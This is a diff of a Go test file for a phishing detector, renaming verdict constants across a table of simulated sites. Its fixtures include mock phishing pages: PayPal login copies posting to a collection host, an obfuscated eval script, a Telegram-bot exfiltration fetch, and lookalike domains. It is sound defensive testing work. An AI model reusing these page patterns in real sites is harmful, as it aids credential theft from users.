@@ -63,16 +63,16 @@ var worlds = []struct {
 	{"good", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", markup("<title>Example</title><p>Hello"))
 		registered(w, "example.com", 3000)
-	}, clean, "", "No phishing signal found"},
+	}, Clean, "", "No phishing signal found"},
 	{"good with a login of its own", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", login("Example", "/session"))
 		registered(w, "example.com", 3000)
-	}, clean, "-phishing.page.password.foreign -phishing.page.brand_login",
+	}, Clean, "-phishing.page.password.foreign -phishing.page.brand_login",
 		"No phishing signal found"},
 	{"a brand's own", "https://www.paypal.com/signin?returnUri=https%3A%2F%2Fwww.paypal.com%2Fmyaccount",
 		func(w *diagtest.World) {
 			w.HTTPS("www.paypal.com", login("Log in to PayPal", "https://www.paypal.com/signin"))
-		}, clean, "-phishing.url.keyword", "Host belongs to PayPal"},
+		}, Clean, "-phishing.url.keyword", "Host belongs to PayPal"},
 	{"copy on another domain", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("PayPal: log in", "https://collect.example/post.php"))
 	}, Malicious, "phishing.page.brand_login phishing.page.password.foreign", "in the name of PayPal"},
@@ -80,19 +80,19 @@ var worlds = []struct {
 		w.HTTPS("shop.example", login("Netflix", "mailto:thief@example.net"))
 	}, Suspicious, "phishing.page.password.nowhere phishing.page.brand_login", ""},
 	{"blog", "https://blog.example/", loginAt("blog.example", "Log In ‹ My Blog — WordPress", ""),
-		clean, "-phishing.page.brand_login", ""},
+		Clean, "-phishing.page.brand_login", ""},
 	{"software on its own host", "https://gitlab.firm.example/users/sign_in", loginAt("gitlab.firm.example",
 		"Sign in · GitLab", "/in"),
-		clean, "-phishing.page.brand_login", ""},
+		Clean, "-phishing.page.brand_login", ""},
 	{"login with a provider", "https://app.example/login", loginAt("app.example", "Sign in with Google | My App",
 		"https://accounts.google.com/o"),
-		clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
+		Clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
 	{"login at another company", "https://bank.example/", loginAt("bank.example", "Our Bank",
 		"https://it.firm.example/portal"),
-		clean, "phishing.page.password.foreign", "Only weak"},
+		Clean, "phishing.page.password.foreign", "Only weak"},
 	{"forum with a login on each page", "https://forum.example/t/1", loginAt("forum.example",
 		"PayPal does not pay me | Forum", "/login"),
-		clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
+		Clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
 	{"copy in other words", "https://shop.example/", loginAt("shop.example", "Log in to your PayPal account", "/x"),
 		Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
 	{"copy on a free host", "https://login-page.netlify.app/", loginAt("login-page.netlify.app", "Netflix", "/x"),
@@ -102,13 +102,13 @@ var worlds = []struct {
 		w.Site(diagtest.Site{Host: "my-club.com", Handler: markup("<title>My club</title><p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "my-club.com", 3)
-	}, clean, "phishing.tls.new phishing.registration.new", "Only weak"},
+	}, Clean, "phishing.tls.new phishing.registration.new", "Only weak"},
 	{"plain http login", "http://shop.example/", func(w *diagtest.World) {
 		w.HTTP("shop.example", login("Shop", "/in"))
-	}, clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
+	}, Clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
 	{"insecure form on https", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("Shop", "http://shop.example/in"))
-	}, clean, "phishing.page.password.insecure", ""},
+	}, Clean, "phishing.page.password.insecure", ""},
 	{"kit", "https://shop.example/wp-content/x/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Sign in</title><link rel=icon href="https://www.paypal.com/favicon.ico">`+
 			`<script>eval(unescape("%64%6f"))</script><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`+
@@ -120,16 +120,16 @@ var worlds = []struct {
 			"phishing.page.links phishing.url.program_directory", "chat or form service"},
 	{"news about a brand", "https://news.example/", func(w *diagtest.World) {
 		w.HTTPS("news.example", markup("<title>PayPal warns of phishing</title><p>text"))
-	}, clean, "phishing.page.brand_title", ""},
+	}, Clean, "phishing.page.brand_title", ""},
 	{"page of nothing but a frame", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://other.example/login"></iframe>`))
-	}, inconclusive, "phishing.page.frame", "a script or a frame"},
+	}, Inconclusive, "phishing.page.frame", "a script or a frame"},
 	{"frame of a lookalike", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://login.microsoftonline.com.firm.example/"></iframe>`))
 	}, Suspicious, "phishing.page.frame phishing.lookalike.subdomain", "shows Microsoft"},
 	{"page that a script makes", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Shop</title><div id=root></div><script src=/a.js></script>`))
-	}, inconclusive, "", "a script or a frame"},
+	}, Inconclusive, "", "a script or a frame"},
 	{"card form in the name of a courier", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>DHL | Pay the fee</title><form method=post><input placeholder="Card number">`+
 			`<input placeholder=CVV></form>`))
@@ -137,23 +137,23 @@ var worlds = []struct {
 	{"card form of a shop", "https://shop.example/pay", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Shop | Pay</title><form method=post><input autocomplete=cc-number>`+
 			`<input autocomplete=cc-csc></form><img src=visa.svg alt=Visa><img src=paypal.svg alt=PayPal>`))
-	}, clean, "-phishing.page.brand_secret", ""},
+	}, Clean, "-phishing.page.brand_secret", ""},
 	{"logo in place of a title", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Log in</title><img src=a.svg alt=PayPal>`+fmt.Sprintf(password, "/x")))
 	}, Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
 	{"brand and another name", "https://forum.example/", loginAt("forum.example", "Netflix | Forum of film lovers", "/in"),
-		inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
+		Inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
 	{"form of the brand", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("PayPal", "https://www.paypal.com/signin"))
-	}, clean, "-phishing.page.brand_login", ""},
+	}, Clean, "-phishing.page.brand_login", ""},
 	{"login without a name", "https://news.example/", loginAt("news.example", "Webmail Login", "/in"),
-		inconclusive, "phishing.page.nameless", "does not say clearly"},
+		Inconclusive, "phishing.page.nameless", "does not say clearly"},
 	{"brand that asks for an address first", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Sign in to Microsoft</title><form><input type=email><button>Next</button></form>`))
-	}, inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
+	}, Inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
 	{"bank that the host does not name", "https://news.example/", func(w *diagtest.World) {
 		w.HTTPS("news.example", markup(`<title>Kreisbank Nordtal</title><form><input placeholder=PIN><input placeholder=TAN></form>`))
-	}, inconclusive, "phishing.page.unmatched_name", "does not say clearly"},
+	}, Inconclusive, "phishing.page.unmatched_name", "does not say clearly"},
 	{"recovery phrase", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Restore</title><p>Enter your secret recovery phrase.<textarea name=x></textarea>`))
 	}, Suspicious, "phishing.page.recovery_phrase", "recovery phrase"},
@@ -167,15 +167,15 @@ var worlds = []struct {
 	}, Malicious, "phishing.page.brand_login phishing.page.obfuscated", "in the name of Microsoft"},
 	{"defanged", "hxxps://shop[.]example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup("<title>Shop</title><p>hello"))
-	}, clean, "phishing.url.corrected", ""},
+	}, Clean, "phishing.url.corrected", ""},
 	{"host without a registration", "https://someone.github.io/", func(w *diagtest.World) {
 		w.HTTPS("someone.github.io", markup("<title>Someone</title><p>hello"))
-	}, inconclusive, "phishing.host.blog", "nobody registered"},
+	}, Inconclusive, "phishing.host.blog", "nobody registered"},
 	{"links of its own", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example",
 			markup(`<title>x</title><link rel=icon href=/i.png><a href=/1>1</a><a href=/2>2</a><a href=/3>3</a>`+
 				`<a href=/4>4</a><a href=/5>5</a>`+fmt.Sprintf(password, "/x")))
-	}, clean, "-phishing.page.links", ""},
+	}, Clean, "-phishing.page.links", ""},
 	{"bad certificate and new domain", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"), Cert: diagtest.CertSelfSigned})
 		registered(w, "shop-info.com", 3)
@@ -185,30 +185,30 @@ var worlds = []struct {
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "shop-info.com", 90)
-	}, clean, "phishing.tls.new phishing.registration.young", ""},
+	}, Clean, "phishing.tls.new phishing.registration.young", ""},
 	{"not registered", "https://nothing-there.com/", func(w *diagtest.World) {
 		w.RDAP("rdap.verisign.com", nil)
 		w.Whois("whois.verisign-grs.com", map[string]string{"": "No match for domain \"NOTHING-THERE.COM\".\r\n"})
-	}, inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
-	{"dead host", "https://gone.example/", nil, inconclusive, "phishing.page.unknown", "no address"},
+	}, Inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
+	{"dead host", "https://gone.example/", nil, Inconclusive, "phishing.page.unknown", "no address"},
 	{"dead host of a lookalike", "https://paypa1.com/", nil, Suspicious,
 		"phishing.page.unknown phishing.lookalike.homoglyph", "looks like PayPal"},
 	{"certificate not yet valid", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Cert: diagtest.CertNotYetValid, Handler: markup("<p>hello")})
 		registered(w, "shop-info.com", 900)
-	}, clean, "phishing.tls.invalid -phishing.tls.new", ""},
+	}, Clean, "phishing.tls.invalid -phishing.tls.new", ""},
 	{"redirect with a password", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.RedirectHandler("https://user:secret@www.shop.example/", http.StatusFound))
-	}, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"private address", "https://inside.example/", func(w *diagtest.World) { w.Zone("inside.example. A 10.0.0.1\n") },
-		inconclusive, "phishing.page.unknown", "is not public"},
+		Inconclusive, "phishing.page.unknown", "is not public"},
 	{"name servers broken", "https://broken.example/", func(w *diagtest.World) {
 		w.Break("broken.example",
 			dns.RcodeServerFailure)
 	},
-		inconclusive, "phishing.page.unknown", "Page could not be examined"},
+		Inconclusive, "phishing.page.unknown", "Page could not be examined"},
 	{"refused", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", nil) },
-		inconclusive, "phishing.page.unknown", "the server answered 404"},
+		Inconclusive, "phishing.page.unknown", "the server answered 404"},
 	{"redirect to a lookalike", "https://short.example/x", func(w *diagtest.World) {
 		w.HTTPS("short.example", http.RedirectHandler("https://paypal-secure-login.com/", http.StatusFound))
 		w.HTTPS("paypal-secure-login.com", login("PayPal: log in", "/session"))
@@ -217,26 +217,26 @@ var worlds = []struct {
 		w.HTTPS("a.example", markup(`<meta http-equiv=refresh content="0;url=https://b.example/">`))
 		w.HTTPS("b.example", http.RedirectHandler("https://c.example/", http.StatusFound))
 		w.HTTPS("c.example", markup("<p>end"))
-	}, clean, "phishing.redirect.document phishing.redirect.sites", ""},
+	}, Clean, "phishing.redirect.document phishing.redirect.sites", ""},
 	{"loop", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.RedirectHandler("https://b.example/", http.StatusFound))
 		w.HTTPS("b.example", http.RedirectHandler("https://a.example/", http.StatusFound))
-	}, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"redirect beyond what is read", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.RedirectHandler("/"+strings.Repeat("a", 9000), http.StatusFound))
-	}, inconclusive, "phishing.page.unknown", "very long redirect"},
+	}, Inconclusive, "phishing.page.unknown", "very long redirect"},
 	{"loop with a cookie", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Set-Cookie", "seen=1")
 			http.Redirect(w, r, "/", http.StatusFound)
 		}))
-	}, inconclusive, "phishing.page.unknown", "need a cookie"},
+	}, Inconclusive, "phishing.page.unknown", "need a cookie"},
 	{"no page", "https://shop.example/x.pdf", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", "application/pdf")
 			io.WriteString(w, "%PDF")
 		}))
-	}, clean, "", ""},
+	}, Clean, "", ""},
 }
 
 // examined is Check without the report.
@@ -303,7 +303,7 @@ func hold(t testing.TB, r *Report) {
 	if r.Verdict == Suspicious || r.Verdict == Malicious {
 		require.NotEmpty(t, r.Signals)
 	}
-	if r.Verdict == clean || r.Verdict == inconclusive {
+	if r.Verdict == Clean || r.Verdict == Inconclusive {
 		require.Less(t, r.RiskScore, suspicious)
 	}
 }
@@ -318,7 +318,7 @@ func TestNotFetched(t *testing.T) {
 	} {
 		_, r := alone(t, url)
 		require.Equal(t, headline, r.Headline)
-		require.NotEqual(t, clean, r.Verdict, url)
+		require.NotEqual(t, Clean, r.Verdict, url)
 		require.False(t, r.Partial, "nothing was asked")
 	}
 }
@@ -351,7 +351,7 @@ func TestSilence(t *testing.T) {
 	for _, host := range []string{"example.com", "example-login.com"} {
 		w.HTTPS(host, markup("<p>x"))
 		_, r := examined(t, w, Request{URL: host})
-		require.Equal(t, inconclusive, r.Verdict, host)
+		require.Equal(t, Inconclusive, r.Verdict, host)
 		require.True(t, r.Partial)
 		require.Equal(t, diag.ScopePart{Part: "registration of " + host, State: diag.NotAnswered,
 			Reason: "no registry gave a usable answer"}, r.Examined[0])
@@ -399,7 +399,7 @@ func TestFetchFalseAsksTheRegistryAlone(t *testing.T) {
 	_, r := examined(t, w, Request{URL: "https://example.com/", Fetch: &off})
 	require.Equal(t, 3, *r.AgeDays)
 	require.Contains(t, diagtest.CodesOf(r.Findings), diag.Code("phishing.registration.new"))
-	require.Equal(t, inconclusive, r.Verdict)
+	require.Equal(t, Inconclusive, r.Verdict)
 	require.False(t, r.Partial)
 	require.Contains(t, r.Sub, "Examined: URL, registration; not examined: address, page, certificate, reputation.")
 	for _, p := range r.Examined {
